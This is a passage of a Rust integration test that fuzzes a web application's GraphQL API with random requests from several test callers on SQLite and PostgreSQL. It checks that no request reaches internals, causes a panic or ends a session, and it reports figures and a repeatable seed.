        return text.to_owned();
    }
    let start: String = text.chars().take(max).collect();
    format!("{start}… ({count} characters)")
}

/// What a run did and found.
struct Run {
    /// Requests per caller, in the order of the callers.
    sent: Vec<usize>,
    outcomes: BTreeMap<String, usize>,
    /// Root fields answered without error at least once.
    answered: BTreeSet<String>,
    failures: Vec<Failure>,
    failure_count: usize,
    elapsed: Duration,
    stopped_early: bool,
}

impl Run {
    fn new(callers: usize) -> Run {
        Run {
            sent: vec![0; callers],
            outcomes: BTreeMap::new(),
            answered: BTreeSet::new(),
            failures: Vec::new(),
            failure_count: 0,
            elapsed: Duration::ZERO,
            stopped_early: false,
        }
    }

    fn record(
        &mut self,
        caller: &'static str,
        request: Request,
        answer: Result<(u16, String), String>,
        fuzzer: &mut Fuzzer<'_>,
    ) {
        let (status, text) = match answer {
            Ok(answer) => answer,
            Err(reason) => {
                self.count("(no answer)");
                self.fail(Failure {
                    caller,
                    request,
                    status: None,
                    answer: String::new(),
                    findings: vec![reason],
                });
                return;
            }
        };
        let body: Option<Value> = serde_json::from_str(&text).ok();
        let findings = findings(status, body.as_ref());
        match &body {
            Some(body) => {
                fuzzer.harvest(&body["data"]);
                let outcome = outcome(body);
                if outcome == "OK" {
                    self.answered.insert(request.field.clone());
                }
                self.count(&outcome);
            }
            None => self.count(&format!("HTTP {status} without JSON")),
        }
        if !findings.is_empty() {
            self.fail(Failure {
                caller,
                request,
                status: Some(status),
                answer: text,
                findings,
            });
        }
    }

    fn count(&mut self, outcome: &str) {
        *self.outcomes.entry(outcome.to_owned()).or_insert(0) += 1;
    }

    fn fail(&mut self, failure: Failure) {
        self.failure_count += 1;
        if self.failures.len() < SHOWN_FAILURES {
            self.failures.push(failure);
        }
    }
}

/// Sends the requests, the callers taking turns, until the count or the time is up.
async fn fuzz(
    app: &TestApp,
    callers: &[Caller],
    fuzzer: &mut Fuzzer<'_>,
    settings: &Settings,
) -> Run {
    let schema = fuzzer.schema;
    let operations: Vec<Vec<usize>> = callers.iter().map(|c| schema.operations(c)).collect();
    let mut run = Run::new(callers.len());
    let started = Instant::now();
    'rounds: for _ in 0..settings.requests {
        for (index, caller) in callers.iter().enumerate() {
            if started.elapsed() > settings.budget {
                run.stopped_early = true;
                break 'rounds;
            }
            let root = &schema.roots[*fuzzer.rng.pick(&operations[index])];
            let request = fuzzer.request(root);
            let cookie = fuzzer.cookie_for(caller);
            let english = fuzzer.rng.chance(30);
            let answer = send(app, &request.body(), cookie.as_deref(), english).await;
            run.sent[index] += 1;
            run.record(caller.name, request, answer, fuzzer);
        }
    }
    run.elapsed = started.elapsed();
    run
}

/// The logged-in callers whose session no longer holds.
async fn lost_sessions(app: &TestApp, callers: &[Caller]) -> Vec<String> {
    let mut lost = Vec::new();
    for caller in callers {
        let (Some(cookie), Some(account)) = (&caller.cookie, &caller.account) else {
            continue;
        };
        let me = app.in_session(cookie, "{ me { id } }", json!({})).await;
        if me["data"]["me"]["id"].as_str() != Some(account.as_str()) {
            lost.push(format!(
                "{}: the session ended during the run, so its requests ran as nobody: {me}",
                caller.name
            ));
        }
    }
    lost
}

fn print_figures(database: &str, callers: &[Caller], run: &Run, fuzzer: &Fuzzer<'_>) {
    let total: usize = run.sent.iter().sum();
    let seconds = run.elapsed.as_secs_f64();
    let per_caller: Vec<String> = callers
        .iter()
        .zip(&run.sent)
        .map(|(caller, sent)| format!("{} {sent}", caller.name))
        .collect();
    println!(
        "fuzz on {database}: {total} requests in {seconds:.1} s ({:.1} requests/s): {}",
        total as f64 / seconds.max(0.001),
        per_caller.join(", ")
    );
    if run.stopped_early {
        println!("fuzz on {database}: stopped at the time bound (PRAEVNET_FUZZ_SECONDS)");
    }
    println!(
        "fuzz on {database}: {} of {} root fields answered without error at least once; {} ids harvested",
        run.answered.len(),
        fuzzer.schema.roots.len(),
        fuzzer.ids.len()
    );
    let mut outcomes: Vec<(&String, &usize)> = run.outcomes.iter().collect();
    outcomes.sort_by(|a, b| b.1.cmp(a.1).then_with(|| a.0.cmp(b.0)));
    let top: Vec<String> = outcomes
        .iter()
        .take(12)
        .map(|(code, count)| format!("{code} {count}"))
        .collect();
    println!("fuzz on {database}: outcomes: {}", top.join(", "));
}

fn report(database: &str, seed: u64, run: &Run, panics: &[String], lost: &[String]) -> String {
    let mut parts = vec![format!(
        "fuzz on {database}, seed {seed} (PRAEVNET_FUZZ_SEED={seed} repeats the run): \
         {} failing requests (the first {SHOWN_FAILURES} below), {} panics, {} lost sessions",
        run.failure_count,
        panics.len(),
        lost.len()
    )];
    parts.extend(run.failures.iter().map(Failure::describe));
    parts.extend(panics.iter().map(|panic| format!("panic: {panic}")));
    parts.extend(lost.iter().cloned());
    parts.join("\n\n")
}

// ---------------------------------------------------------------------------------------------

async fn random_requests_never_reach_internals(db: TestDatabase) {
    record_panics();
    let settings = Settings::from_env();
    let database = if db.is_postgres() {
        "PostgreSQL"
    } else {
        "SQLite"
    };
    println!(
        "fuzz on {database}: seed {} (PRAEVNET_FUZZ_SEED), {} requests per principal \
         (PRAEVNET_FUZZ_REQUESTS), at most {} s (PRAEVNET_FUZZ_SECONDS)",
        settings.seed,
        settings.requests,
        settings.budget.as_secs()
    );
    let sink = SmtpSink::start();
    let config = config_with_mail(&db, &sink);
    let app = TestApp::spawn_with(db, config).await;
    let city = app.create_municipality("Leipzig", "14713000", "SN").await;
    let other = app
        .create_municipality("Halle (Saale)", "15002000", "ST")
        .await;
    let callers = callers(&app, &sink, &city).await;

    let schema = Schema::load();
    let mut fuzzer = Fuzzer::new(&schema, settings.seed);
    fuzzer.protect(&callers);
    fuzzer.remember_id(&city);
    fuzzer.remember_id(&other);
    seed_records(&app, &city, &mut fuzzer).await;

    let run = fuzz(&app, &callers, &mut fuzzer, &settings).await;
    print_figures(database, &callers, &run, &fuzzer);
    let lost = lost_sessions(&app, &callers).await;
    let panics = recorded_panics();
    assert!(
        run.failure_count == 0 && panics.is_empty() && lost.is_empty(),
        "{}",
        report(database, settings.seed, &run, &panics, &lost)
    );
}

on_both_databases!(random_requests_never_reach_internals);
